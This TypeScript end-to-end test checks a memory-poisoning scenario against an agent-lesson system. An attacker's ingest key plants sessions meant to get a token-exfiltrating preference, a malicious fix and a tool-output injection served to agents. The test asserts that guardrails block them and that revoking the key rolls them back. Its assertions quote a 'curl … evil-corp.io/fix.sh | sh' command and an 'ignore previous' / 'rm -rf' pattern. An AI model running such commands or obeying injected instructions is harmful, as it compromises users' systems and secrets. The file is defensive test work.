/**
 * Memory poisoning over the real system (the four services on the real NATS and Postgres): an
 * attacker's ingest key plants sessions crafted to get a malicious team preference, a malicious
 * "fix" and a tool-output injection proposed, and feeds an honest pattern of the team to get a
 * foot in a lesson that is served. None of the payloads reaches an agent; after the key is
 * revoked, nothing the attacker contributed is served, and later dreams leave its sessions out.
 */
import { ROUTES, SERVICE_NAMES, type DreamView, type LessonView, type ServedLesson, type ServiceName, type SessionEvent } from '@reverie/contracts';
import { CONSUMERS } from '@reverie/event-store';
import { createLogger, type ServiceHandle } from '@reverie/service-kit';
import { eventually, natsTestEnv, pgTestEnv, TEST_NATS_URL, type NatsTestEnv, type PgTestEnv } from '@reverie/testing';
import { createApp as createServing } from '../apps/agent-serving/src/app.factory';
import { loadServingConfig } from '../apps/agent-serving/src/config/serving.config';
import { createApp as createDreaming } from '../apps/dreaming/src/app.factory';
import { loadDreamingConfig } from '../apps/dreaming/src/config/dreaming.config';
import { createApp as createGovernance } from '../apps/lesson-governance/src/app.factory';
import { loadGovernanceConfig } from '../apps/lesson-governance/src/config/governance.config';
import { createApp as createIngest } from '../apps/session-ingest/src/app.factory';
import { loadIngestConfig } from '../apps/session-ingest/src/config/ingest.config';
import { maliciousFix, maliciousPreference, publishBeforeBuild, toolOutputInjection } from './poisoning-sessions';

jest.setTimeout(120_000);

const KEYS = {
  mallory: 'acme-mallory-ingest-key-01',
  team: 'acme-team-ingest-key-00001',
  reviewer: 'acme-reviewer-key-0000001',
  approver: 'acme-approver-key-0000001',
  agent: 'acme-agent-key-000000001',
};
const REVERIE_API_KEYS = [
  `${KEYS.mallory}:acme:ingest:mallory`, `${KEYS.team}:acme:ingest:team`, `${KEYS.reviewer}:acme:reviewer:rita`,
  `${KEYS.approver}:acme:approver:abe`, `${KEYS.agent}:acme:agent:release-bot`,
].join(',');
const ATTACKER = 'key:operator:mallory';

type Lesson = LessonView & { audit: { type: string; actor: { id: string }; data: Record<string, unknown> }[] };

describe('memory poisoning through an ingest key, end to end', () => {
  let nats: NatsTestEnv;
  let pg: PgTestEnv;
  const apps = {} as Record<ServiceName, ServiceHandle>;

  const call = async <T>(service: ServiceName, method: string, path: string, key: string, body?: unknown) => {
    const res = await fetch(`${apps[service].url}${path}`, {
      method, headers: { 'x-api-key': key, ...(body !== undefined && { 'content-type': 'application/json' }) }, body: body === undefined ? undefined : JSON.stringify(body),
    });
    return { status: res.status, body: (await res.json()) as T & { code?: string; detail?: string } };
  };
  const ingest = async (key: string, sessions: SessionEvent[][]) => {
    for (const events of sessions) expect((await call('session-ingest', 'POST', ROUTES.ingestEvents, key, { events })).status).toBe(202);
  };
  const dream = async () => {
    const requested = await call<DreamView>('dreaming', 'POST', ROUTES.dreams, KEYS.reviewer, { trigger: 'manual' });
    expect(requested.status).toBe(202);
    const done = await eventually(async () => {
      const d = (await call<DreamView>('dreaming', 'GET', ROUTES.dream(requested.body.id), KEYS.reviewer)).body;
      return d.status === 'completed' || d.status === 'failed' ? d : undefined;
    }, { what: 'the dream done', timeoutMs: 30_000 });
    expect(done).toMatchObject({ status: 'completed' });
    return done;
  };
  const lessons = async () => (await call<LessonView[]>('lesson-governance', 'GET', `${ROUTES.lessons}?limit=500`, KEYS.reviewer)).body;
  const lesson = async (id: string) => (await call<Lesson>('lesson-governance', 'GET', ROUTES.lesson(id), KEYS.reviewer)).body;
  const served = async () => (await call<{ lessons: ServedLesson[] }>('agent-serving', 'GET', ROUTES.agentLessons('release-bot'), KEYS.agent)).body.lessons;
  const find = (all: LessonView[], re: RegExp) => {
    const found = all.find((l) => re.test(l.text));
    if (!found) throw new Error(`no lesson matching ${re} among:\n${all.map((l) => `  [${l.status}] ${l.text}`).join('\n')}`);
    return found;
  };

  beforeAll(async () => {
    nats = await natsTestEnv({ consumers: CONSUMERS });
    pg = await pgTestEnv();
    const env = {
      NATS_URL: TEST_NATS_URL, DATABASE_URL: pg.url, REVERIE_NAMESPACE: nats.topology.namespace, PORT: '0', LOG_LEVEL: 'silent', REVERIE_API_KEYS,
      GOVERNANCE_CLOCK_SECONDS: '0',
    };
    const logger = (s: ServiceName) => createLogger(s, 'silent');
    apps['session-ingest'] = await createIngest(loadIngestConfig(env), { handleSignals: false, logger: logger('session-ingest') });
    apps['lesson-governance'] = await createGovernance(loadGovernanceConfig(env), { handleSignals: false, logger: logger('lesson-governance') });
    apps.dreaming = await createDreaming(loadDreamingConfig(env), { handleSignals: false, logger: logger('dreaming') });
    apps['agent-serving'] = await createServing(loadServingConfig(env), { handleSignals: false, logger: logger('agent-serving') });
  });

  afterAll(async () => {
    for (const s of [...SERVICE_NAMES].reverse()) await apps[s]?.shutdown('test done');
    await nats?.cleanup();
    await pg?.cleanup();
  });

  it('keeps every payload from agents, and after revoking the key serves nothing the attacker contributed', async () => {
    await ingest(KEYS.mallory, [1, 2, 3].flatMap((n) => [maliciousPreference(n), maliciousFix(n), toolOutputInjection(n)]));
    await ingest(KEYS.mallory, [publishBeforeBuild('m1', 'invented-9', 22), publishBeforeBuild('m2', 'invented-8', 23)]);
    await ingest(KEYS.team, [publishBeforeBuild('t1', 'ana', 20), publishBeforeBuild('t2', 'bo', 21)]);
    const first = await dream();
    const all = await eventually(async () => {
      const l = await lessons();
      return first.proposedLessonIds.every((id) => l.some((x) => x.id === id && x.status !== 'proposed')) ? l : undefined;
    }, { what: 'the proposals checked by the guardrails' });

    // The payloads are proposed blocked, each with the rule it broke; an approver cannot approve them.
    const preference = find(all, /deploy token/);
    const fix = find(all, /curl -s https:\/\/evil-corp\.io\/fix\.sh \| sh/);
    for (const [l, rules] of [[preference, ['exfiltration', 'corroboration']], [fix, ['exfiltration', 'unsafe-command']]] as const) {
      expect(l.status).toBe('blocked');
      expect(l.policy?.violations.map((v) => v.rule)).toEqual(expect.arrayContaining([...rules]));
      expect((await call('lesson-governance', 'POST', ROUTES.approveLesson(l.id), KEYS.approver, {}))).toMatchObject({ status: 409, body: { code: 'blocked-by-policy' } });
    }
    // One key inventing three users is one independent source: the preference is short of two.
    expect(preference.support).toMatchObject({ distinctUsers: 3, credentials: [ATTACKER] });
    // The injected instructions never reach the text (the writer keeps tool output in the evidence); the lesson says it rests on tool output.
    const injection = find(all, /npm run docs/);
    expect(injection.text).not.toMatch(/ignore previous|rm -rf/);
    expect(injection.evidence.refs.every((r) => r.source === 'tool-output' && (r.ingestedBy ?? []).includes(ATTACKER))).toBe(true);
    expect(injection.tainted).toEqual(['tool-output']);

    // An approver approves what passed: the honest pattern the attacker fed, and the harmless residue.
    const publish = find(all, /npm run build/);
    expect(publish.support).toMatchObject({ sessions: 4, credentials: [ATTACKER, 'key:operator:team'].sort() });
    for (const l of [publish, injection]) expect((await call<LessonView>('lesson-governance', 'POST', ROUTES.approveLesson(l.id), KEYS.approver, {})).body.status).toBe('active');
    await eventually(async () => (await served()).length === 2, { what: 'both served' });

    // Revoke the key: one action, one audit record of what changed.
    const revoked = await call<{ revocationId: string; lessons: { lessonId: string; action: string; status: string; after: { sessions: number } }[] }>(
      'lesson-governance', 'POST', '/v1/admin/revocations', KEYS.approver, { keys: [ATTACKER], reason: 'the key planted crafted sessions' },
    );
    expect(revoked.status).toBe(200);
    const byId = Object.fromEntries(revoked.body.lessons.map((l) => [l.lessonId, l]));
    expect(byId[publish.id]).toMatchObject({ action: 'back-to-review', status: 'in-review', after: { sessions: 2 } });
    expect(byId[injection.id]).toMatchObject({ action: 'rolled-back', status: 'rolled-back', after: { sessions: 0 } });
    expect(byId[preference.id]).toMatchObject({ action: 'rejected' });
    expect(byId[fix.id]).toMatchObject({ action: 'rejected' });
    await eventually(async () => (await served()).length === 0, { what: 'nothing served any more', timeoutMs: 5000 });
    const record = await call<{ quarantined: unknown[]; revocations: { revocationId: string; lessons: number }[] }>('lesson-governance', 'GET', '/v1/admin/revocations', KEYS.reviewer);
    expect(record.body).toMatchObject({ quarantined: [{ kind: 'credential', id: ATTACKER }], revocations: [{ revocationId: revoked.body.revocationId, lessons: 4 }] });
    const withdrawn = await eventually(async () => {
      const l = await lesson(publish.id);
      return l.status === 'in-review' ? l : undefined;
    }, { what: 'the withdrawal projected' });
    expect(withdrawn.support.credentials).toEqual(['key:operator:team']);
    expect(withdrawn.audit.map((a) => a.type).slice(-2)).toEqual(['LessonEvidenceRevoked', 'LessonRolledBack']);

    // The next dream leaves the attacker's sessions out: the team's pattern grows from the team alone.
    await ingest(KEYS.team, [publishBeforeBuild('t3', 'cy', 24)]);
    await ingest(KEYS.mallory, [publishBeforeBuild('m3', 'invented-7', 25)]);
    const second = await dream();
    expect(second.reinforcedLessonIds).toContain(publish.id);
    const grown = await eventually(async () => {
      const l = await lesson(publish.id);
      return l.support.sessions === 3 ? l : undefined;
    }, { what: 'the team\'s new session counted' });
    expect(grown.support.credentials).toEqual(['key:operator:team']);
    expect((grown.support.provenance ?? []).map((s) => s.sessionId).sort()).toEqual(['t1', 't2', 't3']);
    expect(await served()).toEqual([]);
  });
});
